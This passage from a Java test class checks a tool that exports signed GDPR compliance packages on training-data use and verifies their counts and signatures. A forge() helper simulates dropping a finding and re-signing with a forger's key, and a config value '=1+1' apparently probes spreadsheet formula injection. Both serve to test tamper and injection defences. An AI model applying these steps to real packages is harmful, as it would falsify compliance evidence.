  private record Published(CountTable table, Set<String> hidden) {
    static Published of(JsonNode summary) {
      CountTable table = new CountTable();
      Set<String> hidden = new TreeSet<>();
      JsonNode findings = summary.get("findings");
      Map<Severity, List<String>> rulesOf = new TreeMap<>();
      findings.get("by_rule").fields().forEachRemaining(f -> {
        add(table, hidden, "rule " + f.getKey(), f.getValue());
        rulesOf.computeIfAbsent(RuleId.valueOf(f.getKey()).severity(), k -> new ArrayList<>()).add("rule " + f.getKey());
        JsonNode excluded = summary.at("/data_categories/rows_in_training_that_each_rule_excludes/" + f.getKey());
        assertTrue(excluded.isMissingNode() || excluded.equals(f.getValue()), f.getKey());
      });
      add(table, hidden, "violation", findings.get("total_violations"));
      add(table, hidden, "unverifiable", findings.get("total_unverifiable"));
      assertEquals(findings.get("total_violations"), findings.at("/by_severity/violation"));
      assertEquals(findings.get("total_unverifiable"), findings.at("/by_severity/unverifiable"));
      assertEquals(findings.at("/by_rule/AFFILIATE_SHARE_PROTECTED"),
          summary.at("/recipients/rows_shared_with_affiliates_against_the_policy"));
      assertEquals(findings.at("/by_rule/AGE_UNKNOWN"), summary.at("/age_check/rows_of_unknown_age"));
      assertEquals(findings.at("/by_rule/UNDER_AGE"), summary.at("/age_check/rows_under_minimum_age"));
      table.total("violation", rulesOf.get(Severity.VIOLATION));
      table.total("unverifiable", rulesOf.get(Severity.UNVERIFIABLE));
      List<String> regions = new ArrayList<>();
      findings.get("by_region_group").fields().forEachRemaining(f -> {
        add(table, hidden, "region " + f.getKey(), f.getValue());
        regions.add("region " + f.getKey());
      });
      table.sameSum(regions, List.of("violation", "unverifiable"));
      summary.at("/recipients/rows_with_findings_by_region_and_recipient").fields().forEachRemaining(region -> {
        List<String> cells = new ArrayList<>();
        region.getValue().fields().forEachRemaining(f -> {
          String id = "recipients of " + region.getKey() + " " + f.getKey().replaceFirst(" \\(affiliate\\)$", "");
          add(table, hidden, id, f.getValue());
          cells.add(id);
        });
        table.total("region " + region.getKey(), cells);
      });
      List<String> bands = new ArrayList<>();
      summary.at("/age_check/finding_rows_by_age_band").fields().forEachRemaining(f -> {
        add(table, hidden, "age band " + f.getKey(), f.getValue());
        bands.add("age band " + f.getKey());
      });
      table.sameSum(bands, List.of("violation", "unverifiable"));
      List<String> categories = new ArrayList<>();
      summary.at("/data_categories/private_content_rows_by_category").fields().forEachRemaining(f -> {
        add(table, hidden, "private content " + f.getKey(), f.getValue());
        categories.add("private content " + f.getKey());
      });
      if (!categories.isEmpty()) {
        table.total("rule PRIVATE_CONTENT", categories);
      }
      JsonNode objections = summary.get("objections");
      List<String> optOutRows = List.of("rule OPT_OUT_GENERATIVE", "rule OBJECTION_NON_GENERATIVE");
      add(table, hidden, "members opted out",
          objections.get("members_opted_out_of_generative_training_in_force_at_capture"));
      table.atMost("members opted out", List.of("rule OPT_OUT_GENERATIVE"));
      add(table, hidden, "members objecting",
          objections.get("members_objecting_to_non_generative_training_in_force_at_capture"));
      table.atMost("members objecting", List.of("rule OBJECTION_NON_GENERATIVE"));
      add(table, hidden, "records excluded", objections.get("records_that_had_to_be_excluded"));
      table.atMost("records excluded", optOutRows);
      add(table, hidden, "late exclusions", objections.get("late_exclusions"));
      table.atMost("late exclusions", optOutRows);
      add(table, hidden, "members of unknown age", summary.at("/age_check/members_of_unknown_age"));
      table.atMost("members of unknown age", List.of("rule AGE_UNKNOWN"));
      return new Published(table, hidden);
    }

    private static void add(CountTable table, Set<String> hidden, String id, JsonNode value) {
      if (value.isTextual()) {
        assertEquals(Suppression.LABEL, value.asText(), id);
        hidden.add(id);
        table.count(id, 0);
      } else {
        assertTrue(value.isIntegralNumber(), id + ": " + value);
        table.count(id, value.asLong());
      }
    }
  }

  /** The counts of the jurisdiction the test can compute itself, under the ids of {@link Published}. */
  private static Map<String, Long> trueCounts() {
    Map<String, Long> counts = new TreeMap<>();
    for (RuleId rule : RuleId.values()) {
      counts.put("rule " + rule.name(), 0L);
    }
    counts.put("violation", 0L);
    counts.put("unverifiable", 0L);
    JURISDICTION.forEach(g -> counts.put("region " + g, 0L));
    for (Row r : findingsOfJurisdiction().groupBy(Findings.RULE_ID, Findings.SEVERITY, Findings.REGION_GROUP,
        Findings.RECIPIENT).count().collectAsList()) {
      long n = r.getLong(4);
      counts.merge("rule " + r.getString(0), n, Long::sum);
      counts.merge(r.getString(1), n, Long::sum);
      counts.merge("region " + r.getString(2), n, Long::sum);
      counts.merge("recipients of " + r.getString(2) + " " + r.getString(3), n, Long::sum);
    }
    return counts;
  }

  private record ProcessResult(int exitCode, String output) {}

  private static ProcessResult bash(Path script, Path pkg, Path key, Path previous, Path trust) throws Exception {
    ProcessBuilder builder = new ProcessBuilder("bash", script.toString()).redirectErrorStream(true);
    builder.environment().put("PACKAGE", pkg.toString());
    builder.environment().put("PUBLIC_KEY", key.toString());
    builder.environment().put("PREVIOUS", previous == null ? "" : previous.toString());
    builder.environment().put("TRUST", trust == null ? "" : trust.toString());
    Process process = builder.start();
    String output = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    assertTrue(process.waitFor(60, TimeUnit.SECONDS));
    return new ProcessResult(process.exitValue(), output);
  }

  private static String openssl(String... args) throws Exception {
    List<String> command = new ArrayList<>(List.of("openssl"));
    command.addAll(List.of(args));
    Process process = new ProcessBuilder(command).start();
    byte[] der = process.getInputStream().readAllBytes();
    assertTrue(process.waitFor(60, TimeUnit.SECONDS));
    assertEquals(0, process.exitValue());
    return Digests.sha256(der);
  }

  private static Path writeConfig(String name, int minCount, String... extraExportLines) throws IOException {
    List<String> lines = new ArrayList<>(List.of(
        "tables: {model_trainings: data/model_trainings}",
        "export:",
        "  min_count: " + minCount,
        "  controller_name: Example Networks Ltd",
        "  dpo_contact: " + JSON.writeValueAsString(DPO),
        "  notice_version: '2025-11'",
        "  notice_effective_date: 2025-11-03",
        "  purpose: " + JSON.writeValueAsString(PURPOSE),
        "  legal_basis: Legitimate interests (Art. 6(1)(f) GDPR)",
        "  provider: " + JSON.writeValueAsString(PROVIDER),
        "  model_identifiers: [writer-2025-11, '=1+1']"));
    lines.addAll(List.of(extraExportLines));
    lines.add("");
    return Files.writeString(dir.resolve(name), String.join("\n", lines));
  }

  /** export of the latest run for EU,EEA,CH,UK, or for {@code --jurisdiction-override GROUPS}. */
  private static Cli.Outcome export(Path config, Path out, String... options) {
    List<String> rest = new ArrayList<>(List.of(options));
    String groups = GROUPS;
    int override = rest.indexOf("--jurisdiction-override");
    if (override >= 0) {
      groups = rest.get(override + 1);
      rest.subList(override, override + 2).clear();
    }
    List<String> args = new ArrayList<>(List.of("export", "--run", "latest", "--jurisdiction", groups, "--out",
        out.toString(), "--config", config.toString()));
    args.addAll(rest);
    return Cli.run(args.toArray(String[]::new));
  }

  private static void assertNotVerified(Path pkg, String problem, String... options) {
    List<String> args = new ArrayList<>(List.of("verify", pkg.toString()));
    args.addAll(List.of(options));
    Cli.Outcome verify = Cli.run(args.toArray(String[]::new));
    assertEquals(10, verify.exitCode(), verify.out());
    assertEquals("NOT VERIFIED " + pkg + "\n  " + problem + "\n", verify.out());
  }

  /**
   * What a forger does: drops the last finding, rebuilds the manifest, replaces public-key.pem with
   * its own key and re-signs; {@code createdAt} (if given) predates or postdates the package at will.
   */
  private static Path forge(Path pkg, KeyPair forger, String createdAt) throws Exception {
    if (Files.exists(pkg.resolve("findings.csv"))) {
      List<String> lines = new ArrayList<>(List.of(Files.readString(pkg.resolve("findings.csv")).split("\r\n")));
      lines.remove(lines.size() - 1);
      Files.writeString(pkg.resolve("findings.csv"), String.join("\r\n", lines) + "\r\n");
    }
    Files.writeString(pkg.resolve("public-key.pem"), SigningKeys.publicPem(forger.getPublic()));
    ObjectNode manifest = (ObjectNode) json(pkg.resolve("manifest.json"));
    if (createdAt != null) {
      manifest.put("created_at", createdAt);
    }
    for (JsonNode f : manifest.get("files")) {
      Path file = pkg.resolve(f.get("name").asText());
      ((ObjectNode) f).put("sha256", Digests.sha256(file));
      ((ObjectNode) f).put("size", Files.size(file));
      if (f.get("name").asText().equals("findings.csv")) {
        ((ObjectNode) f).put("rows", csv(file).size() - 1);
      }
    }
    Files.writeString(pkg.resolve("manifest.json"), JSON.writeValueAsString(manifest) + "\n");
    JsonNode statement = JSON.readTree(Base64.getDecoder().decode(
        json(pkg.resolve("attestation.json")).get("payload").asText()));
    List<Attestation.Subject> subjects = new ArrayList<>();
    for (JsonNode s : statement.get("subject")) {
      String name = s.get("name").asText();
      subjects.add(new Attestation.Subject(name, Digests.sha256(pkg.resolve(name))));
    }
    @SuppressWarnings("unchecked")
    Map<String, Object> predicate = JSON.convertValue(statement.get("predicate"), LinkedHashMap.class);
    Files.write(pkg.resolve("attestation.json"), Attestation.envelope(Attestation.statement(subjects, predicate),
        forger.getPrivate(), forger.getPublic()));
    return pkg;
  }

  /** RFC 4180: quoted fields may hold commas, doubled quotes and line breaks; records end with CRLF. */
  private static List<List<String>> csv(Path file) throws IOException {
    String text = Files.readString(file, StandardCharsets.UTF_8);
    List<List<String>> rows = new ArrayList<>();
    List<String> row = new ArrayList<>();
    StringBuilder field = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      if (quoted) {
        if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
          field.append('"');
          i++;
        } else if (c == '"') {
          quoted = false;
        } else {
          field.append(c);
        }
      } else if (c == '"') {
        quoted = true;
      } else if (c == ',') {
        row.add(field.toString());
        field.setLength(0);
      } else if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
        row.add(field.toString());
        field.setLength(0);
        rows.add(row);
        row = new ArrayList<>();
        i++;
      } else {
        field.append(c);
      }
    }
    assertTrue(row.isEmpty() && field.length() == 0, "the file ends with CRLF");
    return rows;
  }

  /** The PDF's notation as docs/evidence.md states it: printable Latin-1 as is, anything else as <U+XXXX>. */
  private static String visible(String text) {
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < text.length(); i += Character.charCount(text.codePointAt(i))) {
      int cp = text.codePointAt(i);
      boolean printable = (cp >= 0x20 && cp <= 0x7E) || (cp >= 0xA0 && cp <= 0xFF && cp != 0xAD);
      out.append(printable && !(cp == '<' && text.startsWith("U+", i + 1))
          ? Character.toString(cp) : String.format("<U+%04X>", cp));
    }
    return out.toString();
  }

  private static String fromVisible(String shown) {
    Matcher m = Pattern.compile("<U\\+([0-9A-F]{4,6})>").matcher(shown);
    StringBuilder out = new StringBuilder();
    while (m.find()) {
      m.appendReplacement(out, Matcher.quoteReplacement(Character.toString(Integer.parseInt(m.group(1), 16))));
    }
    return m.appendTail(out).toString();
  }

  private static List<String> subjects(Path pkg) throws IOException {
    JsonNode statement = JSON.readTree(Base64.getDecoder().decode(
        json(pkg.resolve("attestation.json")).get("payload").asText()));
    List<String> subjects = new ArrayList<>();
    statement.get("subject").forEach(s -> subjects.add(s.get("name").asText() + " " + s.at("/digest/sha256").asText()));
    return subjects;
  }

  private static List<String> files(Path pkg) throws IOException {
    try (Stream<Path> files = Files.list(pkg)) {
      return files.map(p -> p.getFileName().toString()).sorted().toList();
    }
  }

  private static Dataset<Row> table(String name) {
    return spark.read().format("delta").load(dir.resolve("data").resolve(name).toString());
  }

  private static Dataset<Row> findingsOfJurisdiction() {
    return spark.read().format("delta").load(dir.resolve("out/findings").toString())
        .where(org.apache.spark.sql.functions.col(Findings.REGION_GROUP).isin(JURISDICTION.toArray()));
  }

  private static void idsOf(Dataset<Row> column, Set<String> into) {
    for (Iterator<Row> it = column.distinct().toLocalIterator(); it.hasNext(); ) {
      Row r = it.next();
      if (!r.isNullAt(0) && !r.getString(0).isBlank()) {
        into.add(r.getString(0));
      }
    }
  }

  private static String pdfText(Path pdf) throws IOException {
    try (PDDocument document = Loader.loadPDF(pdf.toFile())) {
      return new PDFTextStripper().getText(document);
    }
  }

  private static JsonNode json(Path file) throws IOException {
    return JSON.readTree(file.toFile());
  }

  private static Path copyOf(Path pkg, String name) throws IOException {
    Path copy = dir.resolve("copies").resolve(name);
    Files.createDirectories(copy);
    try (Stream<Path> files = Files.list(pkg)) {
      for (Path f : files.toList()) {
        Files.copy(f, copy.resolve(f.getFileName()), StandardCopyOption.REPLACE_EXISTING);
      }
    }
    return copy;
  }

  private static void flipMiddleByte(Path file) throws IOException {
    byte[] bytes = Files.readAllBytes(file);
    bytes[bytes.length / 2] ^= 0x01;
    Files.write(file, bytes);
  }

  /** Changes one base64 character in the middle of the payload, so the envelope still parses. */
  private static void changeAPayloadCharacter(Path attestation) throws IOException {
    byte[] bytes = Files.readAllBytes(attestation);
    String text = new String(bytes, StandardCharsets.US_ASCII);
    int start = text.indexOf("\"payload\":\"") + 11;
    int at = (start + text.indexOf('"', start)) / 2;
    bytes[at] = (byte) (bytes[at] == 'A' ? 'B' : 'A');
    Files.write(attestation, bytes);
  }
}
